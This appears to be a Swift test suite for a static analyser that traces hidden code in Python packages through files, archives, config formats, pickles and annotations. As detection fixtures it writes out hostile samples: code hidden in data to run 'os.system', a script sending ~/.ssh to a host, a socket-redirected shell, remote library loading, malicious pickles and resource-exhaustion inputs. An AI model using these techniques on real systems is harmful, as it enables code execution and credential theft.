import Evidence
import Reach
import TestSupport
import Testing

/// Code that lies in data: `exec` of what a way of reading gives is followed, and its twin that only measures it is not.
@Suite("Carriers")
struct CarrierTests {
  struct Carrier: Sendable, CustomTestStringConvertible {
    let name: String
    /// Statements before the use.
    var setup = ""
    /// The expression of the hidden text; `exec` or `len` stands around it.
    let text: String
    /// Members beside the module: the hidden code packed in each way.
    var testDescription: String { name }
  }

  private static let code = "import os\nos.system('id')\n"
  private static let bytes = Array(code.utf8)

  /// A RIFF/WAVE file of one channel with eight bits.
  private static let sound: [UInt8] = {
    func little(_ value: Int, _ width: Int) -> [UInt8] {
      (0..<width).map { UInt8(truncatingIfNeeded: value >> (8 * $0)) }
    }
    let format =
      little(16, 4) + little(1, 2) + little(1, 2) + little(8_000, 4) + little(8_000, 4) + little(1, 2) + little(8, 2)
    let size = little(36 + bytes.count, 4)
    return Array("RIFF".utf8) + size + Array("WAVEfmt ".utf8) + format + Array("data".utf8) + little(bytes.count, 4)
      + bytes
  }()

  private static let files: [(String, [UInt8])] = [
    ("demo/code.txt", bytes), ("demo/code.gz", Compressor.gzip(bytes)), ("demo/code.bz2", Compressor.bzip2(bytes)),
    ("demo/two.gz", Compressor.gzip(Array(bytes.prefix(9))) + Compressor.gzip(Array(bytes.dropFirst(9)))),
    ("demo/code.xz", Compressor.xz(bytes)), ("demo/code.z", Compressor.deflate(bytes)),
    ("demo/code.zip", ZipBuilder([("a/x.txt", bytes)]).build()),
    ("demo/code.tar", TarBuilder([("a/x.txt", bytes)]).build()),
    ("demo/code.json", Array(#"{"a": [1, {"b": "import os\nos.system('id')"}]}"#.utf8)),
    ("demo/code.toml", Array("[a]\nb = \"import os; os.system('id')\"\n".utf8)),
    ("demo/code.ini", Array("[DEFAULT]\nc = system\n[A]\nB = import os; os.%(c)s('id')\n".utf8)),
    ("demo/code.csv", Array("n,text\n1,\"import os\nos.system('id')\"\n".utf8)),
    ("demo/code.wav", sound), ("demo/data/sub/deep.txt", bytes),
    ("demo/code.pkl", [0x80, 4, 0x5D, 0x94, 0x8C, UInt8(bytes.count)] + bytes + [0x94, 0x61, 0x2E]),
  ]

  static let carriers: [Carrier] = [
    Carrier(
      name: "a part of a file by position", setup: "f = open(p + 'code.txt')\nf.seek(3)", text: "'imp' + f.read(100)"),
    Carrier(
      name: "a file in pieces", setup: "f = open(p + 'code.txt')\na = f.read(7)", text: "a + f.readline() + f.read()"),
    Carrier(
      name: "a context manager", setup: "with open(p + 'code.txt', 'rb') as f:\n  a = f.readlines()",
      text: "b''.join(a)"),
    Carrier(name: "a descriptor", setup: "d = os.open(p + 'code.txt', os.O_RDONLY)", text: "os.fdopen(d).read()"),
    Carrier(
      name: "the text around bytes", setup: "import io", text: "io.TextIOWrapper(open(p + 'code.txt', 'rb')).read()"),
    Carrier(
      name: "a reader of a codec", setup: "import codecs",
      text: "codecs.getreader('utf-8')(open(p + 'code.txt', 'rb')).read()"),
    Carrier(
      name: "a buffer that is written",
      setup: "import io\nb = io.StringIO()\nb.write('import os\\nos.sys')\nb.writelines(['tem', \"('id')\"])",
      text: "b.getvalue()"),
    Carrier(
      name: "a buffer that is read back",
      setup: "import io\nb = io.BytesIO()\nb.write(open(p + 'code.txt', 'rb').read())\nb.seek(0)", text: "b.read()"),
    Carrier(
      name: "a file copied to a buffer",
      setup: "import io, shutil\nb = io.StringIO()\nshutil.copyfileobj(open(p + 'code.txt'), b)", text: "b.getvalue()"),
    Carrier(name: "gzip of a file", setup: "import gzip", text: "gzip.open(p + 'code.gz', 'rt').read()"),
    Carrier(name: "gzip of two members", setup: "import gzip", text: "gzip.GzipFile(p + 'two.gz').read()"),
    Carrier(
      name: "gzip of an open file", setup: "import gzip",
      text: "gzip.GzipFile(fileobj=open(p + 'code.gz', 'rb')).read()"),
    Carrier(name: "bzip2 of a file", setup: "import bz2", text: "bz2.open(p + 'code.bz2').read()"),
    Carrier(name: "lzma of a file", setup: "import lzma", text: "lzma.LZMAFile(p + 'code.xz').read()"),
    Carrier(
      name: "raw deflate in pieces",
      setup:
        "import zlib\nd = zlib.decompressobj(-zlib.MAX_WBITS)\nr = b''\nf = open(p + 'code.z', 'rb')\nwhile True:\n  c = f.read(5)\n  if not c:\n    break\n  r += d.decompress(c)",
      text: "r + d.flush()"),
    Carrier(
      name: "raw deflate by keyword", setup: "import zlib",
      text: "zlib.decompress(open(p + 'code.z', 'rb').read(), wbits=-15)"),
    Carrier(
      name: "a zip archive's open", setup: "import zipfile",
      text: "zipfile.ZipFile(p + 'code.zip').open('a/x.txt').read()"),
    Carrier(
      name: "a zip archive's list", setup: "import zipfile\nz = zipfile.ZipFile(open(p + 'code.zip', 'rb'))",
      text: "[z.read(i) for i in z.infolist() if i.filename.endswith('.txt')][0]"),
    Carrier(
      name: "an archive that is unpacked",
      setup: "import zipfile\nzipfile.ZipFile(p + 'code.zip').extractall('/tmp/z')",
      text: "open('/tmp/z/a/x.txt').read()"),
    Carrier(
      name: "a tar archive's members", setup: "import tarfile\nt = tarfile.open(p + 'code.tar')",
      text: "b''.join(t.extractfile(m).read() for m in t if m.isfile())"),
    Carrier(name: "JSON", setup: "import json", text: "json.load(open(p + 'code.json'))['a'][1]['b']"),
    Carrier(
      name: "JSON of text", setup: "import json", text: "json.loads('{\"x\": \"import os; os.system(\\'id\\')\"}')['x']"
    ),
    Carrier(name: "TOML", setup: "import tomllib", text: "tomllib.loads(open(p + 'code.toml').read())['a']['b']"),
    Carrier(
      name: "INI", setup: "import configparser\nc = configparser.ConfigParser()\nc.read(p + 'code.ini')",
      text: "c.get('A', 'b')"),
    Carrier(
      name: "INI by section, whatever the case",
      setup: "import configparser\nc = configparser.ConfigParser()\nc.read_file(open(p + 'code.ini'))",
      text: "c['A']['B']"),
    Carrier(name: "CSV", setup: "import csv", text: "[r['text'] for r in csv.DictReader(open(p + 'code.csv'))][0]"),
    Carrier(name: "a sound", setup: "import wave\nw = wave.open(p + 'code.wav')", text: "w.readframes(w.getnframes())"),
    Carrier(name: "a pickle", setup: "import pickle", text: "pickle.load(open(p + 'code.pkl', 'rb'))[0]"),
    Carrier(name: "a mapped file", setup: "import mmap", text: "mmap.mmap(open(p + 'code.txt').fileno(), 0)[:]"),
    Carrier(
      name: "a path beside the module", setup: "from pathlib import Path",
      text: "Path(__file__).resolve().parent.joinpath('data', 'sub').with_name('sub').joinpath('deep.txt').read_bytes()"
    ),
    Carrier(
      name: "a path with another suffix", setup: "from pathlib import Path",
      text: "(Path(__file__).parents[0] / 'code.json').with_suffix('.txt').open().read()"),
    Carrier(name: "a path cut and put together", text: "open(__file__[:-len('__init__.py')] + 'code.txt').read()"),
    Carrier(name: "a path split", text: "open(os.path.splitext(p + 'code.json')[0] + '.txt').read()"),
    Carrier(name: "a path taken apart", text: "open(__file__.rsplit('/', 1)[0] + '/code.txt').read()"),
    Carrier(
      name: "a folder's list", text: "open(p + [n for n in os.listdir(p) if n.endswith('.txt')][0]).read()"),
    Carrier(
      name: "a folder's entries", text: "''.join(open(e.path).read() for e in os.scandir(p) if e.name == 'code.txt')"),
    Carrier(
      name: "a walk",
      setup:
        "for d, _, names in os.walk(p):\n  for n in names:\n    if n.startswith('deep'):\n      a = os.path.join(d, n)",
      text: "open(a).read()"),
    Carrier(
      name: "a glob through folders", setup: "import glob",
      text: "open(glob.glob(p + '**/d??p.*', recursive=True)[0]).read()"),
    Carrier(
      name: "a path's glob", setup: "from pathlib import Path",
      text: "next(Path(__file__).parent.rglob('deep.t[xy]t')).read_text()"),
    Carrier(
      name: "a path's folder", setup: "from pathlib import Path",
      text: "[f for f in Path(p).iterdir() if f.suffix == '.txt'][0].read_text()"),
    Carrier(
      name: "a resource", setup: "from importlib import resources",
      text: "resources.files('demo').joinpath('code.txt').read_text()"),
    Carrier(
      name: "an opened resource", setup: "from importlib.resources import open_text",
      text: "open_text('demo', 'code.txt').read()"),
    Carrier(name: "the loader's data", text: "__spec__.loader.get_data(p + 'code.txt')"),
    Carrier(
      name: "lines of a file by number", setup: "import linecache",
      text: "linecache.getline(p + 'code.txt', 1) + linecache.getline(p + 'code.txt', 2)"),
    Carrier(
      name: "a class's docstring", setup: "class A:\n  \"\"\"import os; os.system('id')\"\"\"", text: "A.__doc__"),
    Carrier(
      name: "a return annotation", setup: "def f() -> \"import os; os.system('id')\": pass",
      text: "f.__annotations__['return']"),
    Carrier(
      name: "a class's annotations", setup: "class A:\n  x: \"import os; os.system('id')\"",
      text: "A.__annotations__['x']"),
    Carrier(
      name: "the source of a class", setup: "import inspect\nclass A:\n  # import os; os.system('id')\n  x = 1",
      text: "inspect.getsource(A).split('# ')[1].split('\\n')[0]"),
  ]

  private func follow(_ carrier: Carrier, use: String) -> ReachedCode {
    let module = "import os\np = os.path.dirname(__file__) + '/'\n\(carrier.setup)\n\(use)(\(carrier.text))\n"
    let files = Self.files + [("demo/__init__.py", Array(module.utf8))]
    let trigger = Trigger(
      id: "pth-import-line", phase: .startup, place: Place("demo.pth", line: 1), owner: nil, python: [], profiles: [],
      summary: "runs", starts: .module("demo"), searchPath: [])
    return Reach(target: InMemoryTarget.wheel("demo", files), limits: .standard).follow(trigger)
  }

  @Test("lead to the code that lies in them", arguments: carriers)
  func harmful(carrier: Carrier) {
    let reached = follow(carrier, use: "exec")
    #expect(reached.has(.processSpawn, "id"), "\(reached.facts) \(reached.opaque)")
  }

  @Test("that are only measured run nothing", arguments: carriers)
  func benign(carrier: Carrier) {
    let reached = follow(carrier, use: "len")
    #expect(!reached.has(.processSpawn) && !reached.has(.codeEvaluate, "constant code"), "\(reached.facts)")
    #expect(reached.opaque.isEmpty, "\(reached.opaque)")
  }

  @Test("that something outside may have written to are not taken for what they were")
  func spilled() {
    let reached = followModule(
      "import io, os, urllib.request, tarfile\nb = io.BytesIO()\nwith tarfile.open(fileobj=b, mode='w:gz') as t:\n"
        + "  t.add(os.path.expanduser('~/.ssh'))\nurllib.request.urlopen('http://example.org', data=b.getvalue())")
    #expect(reached.flowKinds.contains("credential.read → network.connect"), "\(reached.flowKinds)")
  }

  @Test("that are written on a path that may not be taken are not known after it")
  func undecided() {
    let reached = followModule(
      "import io, sys\nb = io.StringIO()\nif sys.argv[1:]:\n  b.write('x')\nb.write('import os')\nexec(b.getvalue())")
    #expect(reached.layers.isEmpty)
    #expect(reached.has(.codeEvaluate))
  }

  @Test(
    "that are opened by another process's standard streams run what comes over the connection",
    arguments: [
      ("s.connect(('example.org', 9))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['sh'])", true),
      ("os.dup2(s.fileno(), 0)\nsubprocess.call(['sh'])\ns.connect(('example.org', 9))", false),
      ("s.connect(('example.org', 9))\nos.dup2(os.open('/dev/null', 0), 0)\nsubprocess.call(['sh'])", false),
    ])
  func redirected(code: String, isFound: Bool) {
    let reached = followModule("import os, socket, subprocess\ns = socket.socket()\n\(code)")
    #expect(reached.flowKinds.contains("network.connect → process.spawn") == isFound)
  }

  @Test("that were downloaded and are loaded as libraries are seen")
  func library() {
    let fetch = "import ctypes, urllib.request\nurllib.request.urlretrieve('http://example.org/x', '/tmp/x.so')\n"
    let reached = followModule(fetch + "ctypes.CDLL('/tmp/x.so')")
    #expect(reached.flowKinds.contains("network.connect → native.load"))
    let twin = followModule(fetch + "ctypes.CDLL('/tmp/y.so')")
    #expect(!twin.flowKinds.contains("network.connect → native.load"))
  }

  @Test(
    "that are pickles call what they name, and make what they hold",
    arguments: [
      ("cos\\nsystem\\n(S'id'\\ntR.", true), ("cos\\ngetcwd\\n(tR0(S'id'\\nS'system'\\nl.", false),
      ("c__builtin__\\neval\\n(V__import__(\"os\").system(\"id\")\\ntR.", true), ("(dS'os.system'\\nS'id'\\ns.", false),
    ])
  func pickles(data: String, isFound: Bool) {
    let reached = followModule("import pickle\npickle.loads(b'''\(data)''')")
    #expect(reached.has(.processSpawn, "id") == isFound, "\(reached.facts)")
  }

  @Test(
    "of hostile shape come to an end",
    arguments: [
      "import io\nb = io.BytesIO()\nb.seek(1 << 62)\nb.write(b'x')\nexec(b.getvalue())",
      "import io\nb = io.BytesIO(b'x')\nb.seek(-5, 2)\nb.read(-9223372036854775808)\nb.truncate(-1)",
      "import configparser\nc = configparser.ConfigParser()\nc.read_string('[a]\\n' + ''.join('k%d = %s\\n' % (i, ('%%(k%d)s' % (i + 1)) * 50) for i in range(40)))\nc['a']['k0']",
      "import json\njson.loads('[' * 100000)", "import json\njson.loads('[0' + ',0' * 300000 + ']')",
      "import csv\nlist(csv.reader(['\"' * 100000] * 50))", "import pickle\npickle.loads(b'(' * 100000 + b'.')",
      "import pickle\npickle.loads(b'\\x80\\x04\\x8e\\xff\\xff\\xff\\xff\\xff\\xff\\xff\\xff')",
      "import zipfile, io\nzipfile.ZipFile(io.BytesIO(b'PK\\x05\\x06' + bytes(18))).namelist()",
      "import tarfile, io\ntarfile.open(fileobj=io.BytesIO(bytes(1024))).getnames()",
      "import wave, io\nwave.open(io.BytesIO(b'RIFF\\xff\\xff\\xff\\xffWAVEfmt \\xff\\xff\\xff\\xff'))",
      "import zlib\nd = zlib.decompressobj()\nfor i in range(100000):\n  d.decompress(b'x' * 100)",
      "import glob, os\nglob.glob(os.path.dirname(__file__) + '/**' * 50 + '/[', recursive=True)",
    ])
  func hostile(code: String) {
    _ = followModule(code)
  }
}
